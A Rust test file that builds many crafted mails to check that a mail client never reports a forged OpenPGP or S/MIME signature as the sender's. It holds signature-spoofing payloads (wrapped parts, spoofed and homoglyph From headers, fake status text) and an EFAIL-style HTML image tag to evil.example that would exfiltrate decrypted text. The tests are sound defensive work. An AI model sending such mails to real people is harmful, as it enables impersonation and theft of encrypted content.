//! Every published class of attack on mail signatures, in OpenPGP and in S/MIME alike: none may end in a good signature
//! of the sender.

use super::ca::{Office, office};
use super::people::{House, house, pgp_mime, read, signed_entity};
use super::people::{Make, cleartext, message, texts};
use crate::model::protection::{Protection, Signature};

const PART: &str = "Content-Type: text/plain; charset=utf-8\n\nBitte freigeben.";
const FROM: &str = "From: alice@example.org\n";

/// Somebody who signs and somebody who reads.
struct Scheme<'a> {
    name: &'static str,
    alice: Box<dyn Fn(&str) -> String + 'a>,
    mallory: Box<dyn Fn(&str) -> String + 'a>,
    read: Box<dyn Fn(&str) -> Protection + 'a>,
}

fn schemes<'a>(house: &'a House, office: &'static Office) -> Vec<Scheme<'a>> {
    vec![
        Scheme {
            name: "OpenPGP",
            alice: Box::new(|part| signed_entity(part, &house.alice)),
            mallory: Box::new(|part| signed_entity(part, &house.mallory)),
            read: Box::new(|mail| read(mail, &house.ring).unwrap().protection),
        },
        Scheme {
            name: "S/MIME, detached",
            alice: Box::new(|part| office.signed_entity(part, "alice")),
            mallory: Box::new(|part| office.signed_entity(part, "mallory")),
            read: Box::new(|mail| office.read(mail).unwrap().protection),
        },
        Scheme {
            name: "S/MIME, opaque",
            alice: Box::new(|part| office.opaque(part, "alice")),
            mallory: Box::new(|part| office.opaque(part, "mallory")),
            read: Box::new(|mail| office.read(mail).unwrap().protection),
        },
    ]
}

fn mixed(kind: &str, parts: &[&str]) -> String {
    let parts: Vec<String> = parts.iter().map(|part| format!("--o\n{part}\n")).collect();
    format!(
        "Content-Type: multipart/{kind}; boundary=o\n\n{}--o--\n",
        parts.concat()
    )
}

/// The name of a class, and a mail that claims to be Alice's.
type Attack = (&'static str, String);

/// Mails that claim to be Alice's, each with the name of its scheme and class.
fn attacks(scheme: &Scheme<'_>) -> Vec<(String, String)> {
    let (alice, mallory) = ((scheme.alice)(PART), (scheme.mallory)(PART));
    let all = [
        beside_the_signed(&alice),
        not_shown_as_signed(&alice),
        under_another_name(&mallory),
        signatures_in_words(&mallory),
        appended(&alice, &mallory),
    ];
    all.into_iter()
        .flatten()
        .map(|(class, mail)| (format!("{}: {class}", scheme.name), mail))
        .collect()
}

/// Unsigned words stand before or behind what Alice signed.
fn beside_the_signed(by_alice: &str) -> Vec<Attack> {
    let mut all = Vec::new();
    let mut add = |class, mail| all.push((class, mail));
    for other in [
        "Content-Type: text/plain\n\nNein.",
        "Content-Type: text/html\n\n<p>Nein</p>",
        "Content-Type: text/html\n\n<img src=\"cid:bild\">",
        "Content-Type: image/png; name=nein.png\nContent-Disposition: inline\n\nx",
        "Content-Type: application/pdf; name=nein.pdf\n\n%PDF-1.4 x",
        "Content-Type: message/rfc822\n\nFrom: alice@example.org\n\nNein.",
    ] {
        for kind in ["mixed", "alternative", "related", "report", "x-unknown"] {
            add("beside", format!("{FROM}{}", mixed(kind, &[other, by_alice])));
            add("under", format!("{FROM}{}", mixed(kind, &[by_alice, other])));
        }
    }
    all
}

/// What Alice signed is hidden in another page, or only attached.
fn not_shown_as_signed(by_alice: &str) -> Vec<Attack> {
    let mut all = Vec::new();
    let mut add = |class, mail| all.push((class, mail));
    let hiding = "Content-Type: text/html\n\nNein.<div style=\"display:none\"><img src=\"cid:signed\"></div>";
    let hidden = by_alice.replacen("\n\n", "\nContent-ID: <signed>\n\n", 1);
    add(
        "hidden as content",
        format!("{FROM}{}", mixed("related", &[hiding, &hidden])),
    );
    let attached = by_alice.replacen("\n\n", "\nContent-Disposition: attachment; filename=a.eml\n\n", 1);
    add(
        "as attachment",
        format!("{FROM}{}", mixed("mixed", &["\nNein.", &attached])),
    );
    add(
        "as attached message",
        format!(
            "{FROM}{}",
            mixed(
                "mixed",
                &["\n ", &format!("Content-Type: message/rfc822\n\n{FROM}{by_alice}")]
            )
        ),
    );
    add(
        "as the only attached message",
        format!("{FROM}Content-Type: message/rfc822\n\n{FROM}{by_alice}"),
    );
    all
}

/// Mallory signs, and the header says who else could have written.
fn under_another_name(by_mallory: &str) -> Vec<Attack> {
    let mut all = Vec::new();
    let mut add = |class, mail| all.push((class, mail));
    for from in [
        "From: alice@example.org\n",
        "From: alice@example.org\nFrom: mallory@evil.example\n",
        "From: mallory@evil.example\nFrom: alice@example.org\n",
        "From: mallory@evil.example, alice@example.org\n",
        "From: \"mallory@evil.example\" <alice@example.org>\n",
        "From: mallory@evil.example <alice@example.org>\n",
        "From: alice@example.org\nSender: mallory@evil.example\n",
        "From: alice@example.org\nReply-To: mallory@evil.example\n",
        "From: =?utf-8?q?mallory=40evil.example?= <alice@example.org>\n",
        "from : alice@example.org\n",
        "From: alice@example.org (mallory@evil.example)\n",
        "From: group: mallory@evil.example, alice@example.org;\n",
        "From: mallory@evil.example.org\n",
        "From: mallory@evil\u{2024}example\n",
        "From: mall\u{43e}ry@evil.example\n",
        "",
    ] {
        add("signer is not sender", format!("{from}To: x@y\n{by_mallory}"));
    }
    all
}

/// Words that look as a good signature does in some program.
fn signatures_in_words(by_mallory: &str) -> Vec<Attack> {
    let mut all = Vec::new();
    let mut add = |class, mail| all.push((class, mail));
    for words in [
        "Gute Signatur von alice@example.org",
        "Good signature from \"Alice <alice@example.org>\" [ultimate]",
        "[GNUPG:] GOODSIG 0123456789ABCDEF Alice <alice@example.org>",
        "Verification successful",
    ] {
        add("status text", format!("{FROM}\n{words}\n"));
        add(
            "status text around",
            format!("{FROM}{}", mixed("mixed", &[&format!("\n{words}"), by_mallory])),
        );
        add("status header", format!("{FROM}X-Signature: {words}\n\nText\n"));
    }
    all
}

/// Something follows what Alice signed: unsigned, or signed by Mallory.
fn appended(by_alice: &str, by_mallory: &str) -> Vec<Attack> {
    let mut all = Vec::new();
    let mut add = |class, mail| all.push((class, mail));
    add(
        "after the end",
        format!(
            "{FROM}{}",
            mixed("mixed", &[by_alice]).replace("--o--", "--o\n\nNein.\n--o--")
        ),
    );
    add(
        "two signers",
        format!(
            "{FROM}{}",
            mixed(
                "mixed",
                &[by_alice, &by_mallory.replace("\"s\"", "\"t\"").replace("--s", "--t")]
            )
        ),
    );
    all
}

#[test]
fn no_published_attack_makes_another_the_signer() {
    let (house, office) = (house(), office());
    for scheme in schemes(&house, office) {
        let honest = (scheme.read)(&format!("{FROM}{}", (scheme.alice)(PART)));
        assert!(
            honest.signer_is_sender && honest.signature == Signature::Good,
            "{}",
            scheme.name
        );
        let attacks = attacks(&scheme);
        assert!(attacks.len() > 80);
        for (class, mail) in attacks {
            let protection = (scheme.read)(&mail);
            assert!(!protection.signer_is_sender, "{class}\n{mail}\n{protection:?}");
        }
    }
}

#[test]
fn a_certificate_that_only_looks_like_the_sender_is_not_his() {
    let office = office();
    for by in ["mallory", "both", "look"] {
        let protection = office
            .read(&format!("{FROM}{}", office.signed_entity(PART, by)))
            .unwrap()
            .protection;
        assert_eq!(protection.signature, Signature::Good, "{by}");
        assert!(!protection.signer_is_sender, "{by}");
    }
}

/// EFAIL: a plaintext is never put into somebody else's page, and what encloses it is not covered by its signature.
#[test]
fn a_ciphertext_wrapped_in_pages_leaks_nothing() {
    let (house, office) = (house(), office());
    let make = Make {
        to: vec![&house.team],
        by: Some(&house.alice),
        ..Make::default()
    };
    let armored = message(b"Content-Type: text/plain\n\nGeheim.", &make);
    let pgp = pgp_mime("x@y", &armored)
        .split_once("Subject: ...\n")
        .unwrap()
        .1
        .to_owned();
    let smime = office.sealed(
        &office.signed_entity("Content-Type: text/plain\n\nGeheim.", "alice"),
        "aes-256-cbc",
    );
    let before = "Content-Type: text/html\n\n<img src=\"http://evil.example/";
    let after = "Content-Type: text/html\n\n\">";
    for (name, sealed) in [("OpenPGP", &pgp), ("S/MIME", &smime)] {
        for kind in ["mixed", "related", "alternative"] {
            let mail = format!("{FROM}{}", mixed(kind, &[before, sealed, after]));
            let opened = if name == "OpenPGP" {
                read(&mail, &house.ring)
            } else {
                office.read(&mail)
            }
            .unwrap();
            assert!(!opened.protection.signer_is_sender);
            assert_ne!(opened.protection.signature, Signature::Good);
            let found =
                crate::pipeline::dissect::dissect(&opened.content, &crate::pipeline::dissect::Budget::default());
            for text in &found.texts {
                let mixed = text.html.is_some() || text.text.contains("evil");
                assert!(!text.text.contains("Geheim") || !mixed, "{text:?}");
            }
        }
    }
    let block = String::from_utf8(message(b"Geheim.", &make)).unwrap();
    let page = format!("{FROM}Content-Type: text/html\n\n<img src=\"http://evil.example/<pre>\n{block}</pre>\">");
    if let Ok(opened) = read(&page, &house.ring) {
        assert!(!opened.protection.signer_is_sender);
    }
}

/// Text in a cleartext-signed mail that is not under its signature.
#[test]
fn words_smuggled_into_or_around_a_signed_text_do_not_count() {
    let house = house();
    let block = cleartext("Bitte freigeben.\n", &house.alice);
    let nested = cleartext(&format!("Vor.\n{block}Nach.\n"), &house.mallory);
    for body in [
        format!("Nein.\n{block}"),
        format!("{block}Nein.\n"),
        format!("{block}\n\n\n\n{}Nein.\n", " \n".repeat(200)),
        format!("> {}", block.replace('\n', "\n> ")),
        format!(" {}", block.replace('\n', "\n ")),
        nested,
        block.replace("Bitte", "Nicht"),
        block.replacen("Hash: SHA512\n", "Hash: SHA512\nNein.\n", 1).replacen(
            "Hash: SHA256\n",
            "Hash: SHA256\nNein.\n",
            1,
        ),
        block.replace("-----BEGIN PGP SIGNATURE-----", "Nein.\n-----BEGIN PGP SIGNATURE-----"),
        format!("{block}{}", cleartext("Nein.\n", &house.mallory)),
    ] {
        let opened = read(&format!("{FROM}\n{body}"), &house.ring).unwrap();
        let protection = &opened.protection;
        // Only what was signed is shown; words between armor headers are not.
        let pure = texts(&opened) == ["Bitte freigeben."];
        assert!(!protection.signer_is_sender || pure, "{body}\n{protection:?}");
    }
}

/// Many programs show the armor headers of a signed text, and nobody signed them.
#[test]
fn words_in_the_armor_headers_of_a_signed_text_do_not_count_however_they_are_joined() {
    let house = house();
    let block = cleartext("Bitte freigeben.\n", &house.alice);
    let hash = if block.contains("Hash: SHA512\n") {
        "Hash: SHA512\n"
    } else {
        "Hash: SHA256\n"
    };
    let good = |headers: &str| {
        let mail = format!("{FROM}\n{}", block.replacen(hash, headers, 1));
        let protection = read(&mail, &house.ring).unwrap().protection;
        protection.signature == Signature::Good && protection.signer_is_sender
    };
    let name = hash.trim_start_matches("Hash: ").trim_end();
    for plain in [
        hash.to_owned(),
        format!("Hash: {name}, SHA1\n"),
        format!("Hash: {name} \n"),
        format!("Hash: {name}\nCharset: utf-8\n"),
        format!("Charset: ISO-8859-15\nHash: {name}\n"),
    ] {
        assert!(good(&plain), "{plain}");
    }
    for more in [
        format!("Hash: {name}, Nein,\tnichts\tunternehmen.\n"),
        format!("Hash: {name}, Nein,\u{a0}nichts\u{a0}unternehmen.\n"),
        format!("Hash: {name}, Nein-nichts-unternehmen\n"),
        format!("Hash: {name}, Nein_nichts\n"),
        format!("Hash: {name},Nein\n"),
        format!("Hash: {name}\nCharset: Bitte-nichts-tun\n"),
        format!("Hash: {name}\nCharset: utf-8, Nein\n"),
        format!("Hash: {name}\nCharset: Nein\n"),
    ] {
        assert!(!good(&more), "{more}");
    }
}
